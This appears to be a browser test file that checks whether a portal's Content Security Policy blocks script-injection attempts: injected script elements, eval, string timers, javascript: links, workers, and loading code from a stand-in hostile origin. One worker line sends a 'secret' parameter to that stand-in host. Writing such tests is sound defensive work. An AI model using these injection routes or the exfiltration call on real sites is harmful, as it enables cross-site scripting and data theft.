/** Injected code tries to run scripts. The page's policy blocks it. */
import type { Page } from '@playwright/test';
import { type Attempt, inPage, testBlocked } from './support/attempts';

const CODE = 'window.attacked = true';
const SCRIPTS = /^(script-src(-elem|-attr)?|require-trusted-types-for)$/;

/** The ways to set the code or the URL of a script element. */
interface ScriptParts {
  readonly child?: string;
  readonly text?: string;
  readonly src?: string;
  /** Code that becomes a blob: URL of the page's own origin. */
  readonly blob?: string;
}

const addScript = (page: Page, parts: ScriptParts) =>
  page.evaluate(({ child, text, src, blob }) => {
    const script = document.createElement('script');
    if (child !== undefined) script.append(child);
    if (text !== undefined) script.text = text;
    if (src !== undefined) script.src = src;
    if (blob !== undefined) script.src = URL.createObjectURL(new Blob([blob], { type: 'text/javascript' }));
    document.head.append(script);
  }, parts);

const scriptElements: readonly Attempt[] = [
  {
    what: 'a script element with code as a child',
    attack: (page) => addScript(page, { child: CODE }),
    // Chromium does not run it, and fires no event.
    blockedBy: null,
  },
  {
    what: 'a script element whose text is set to code',
    attack: (page) => addScript(page, { text: CODE }),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a script of another origin',
    attack: (page, evil) => addScript(page, { src: `${evil}/x.js` }),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a data: script',
    attack: (page) => addScript(page, { src: `data:text/javascript,${CODE}` }),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a blob: script, whose origin is the portal’s',
    attack: (page) => addScript(page, { blob: CODE }),
    blockedBy: SCRIPTS,
  },
];

const otherWays: readonly Attempt[] = [
  {
    what: 'an event handler in an attribute',
    attack: inPage(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.attacked = true');
      document.body.append(button);
      button.click();
    }),
    blockedBy: SCRIPTS,
  },
  {
    what: 'eval',
    // biome-ignore lint/security/noGlobalEval: this is the attack
    attack: inPage(() => setTimeout(() => globalThis.eval('window.attacked = true'))),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a function from a string',
    attack: inPage(() => setTimeout(() => Reflect.construct(Function, ['window.attacked = true'])())),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a timer with a string',
    attack: inPage(() => Reflect.apply(setTimeout, window, ['window.attacked = true', 0])),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a link with javascript:',
    attack: inPage(() => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked = true';
      document.body.append(link);
      link.click();
    }),
    blockedBy: SCRIPTS,
  },
  {
    what: 'a module of another origin',
    attack: inPage((evil) => import(/* webpackIgnore: true */ `${evil}/x.js`).catch(() => undefined)),
    blockedBy: SCRIPTS,
  },
];

const WORKERS = /^(worker-src|require-trusted-types-for)$/;

const workers: readonly Attempt[] = [
  {
    what: 'a worker from a file, which would run without this policy',
    attack: inPage(() => new Worker('/favicon.svg')),
    blockedBy: WORKERS,
  },
  {
    what: 'a worker from a blob: URL, whose origin is the portal’s',
    attack: inPage(() => new Worker(URL.createObjectURL(new Blob(['window.attacked = true'])))),
    blockedBy: WORKERS,
  },
  {
    what: 'a service worker',
    attack: inPage(() => navigator.serviceWorker.register('/favicon.svg')),
    blockedBy: WORKERS,
  },
  {
    what: 'data sent by a worker from a data: URL',
    attack: inPage(
      (evil) =>
        new Promise((resolve) => {
          const code = `fetch('${evil}/?secret=1').catch(() => 0).then(() => postMessage(1))`;
          new Worker(`data:text/javascript,${encodeURIComponent(code)}`).onmessage = resolve;
        }),
    ),
    // The event fires in the worker.
    blockedBy: null,
  },
];

testBlocked('code', [...scriptElements, ...otherWays, ...workers]);
